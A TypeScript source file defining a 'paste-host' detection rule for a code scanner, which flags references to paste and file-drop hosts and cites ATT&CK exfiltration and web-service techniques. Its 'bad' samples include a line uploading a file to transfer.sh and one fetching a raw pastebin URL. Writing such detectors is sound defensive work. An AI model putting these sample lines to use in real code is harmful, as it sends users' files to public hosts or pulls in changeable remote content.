import { string } from "../match.ts";
import { defineRule } from "../rule.ts";
import { PASTES } from "../vocabulary/hosts.ts";

export default defineRule({
  id: "paste-host",
  category: "suspicious_network",
  severity: "medium",
  confidence: "medium",
  languages: ["python", "javascript"],
  title: "a paste or file-drop host is named",
  why: "What is put there can be fetched by anybody, and what is fetched from there can change at any time.",
  fix: "Ship the file with the skill, or use the service's own storage.",
  references: ["ATT&CK T1567.002", "ATT&CK T1102"],
  match: string(PASTES),
  bad: [
    'url = "https://pastebin.com/raw/abcd"',
    'import requests\nrequests.post("https://transfer.sh/", files={"f": f})',
  ],
  good: ['url = "https://example.com/pastebin"', 'name = "profile.io"', 'name = "file.iostream"'],
});
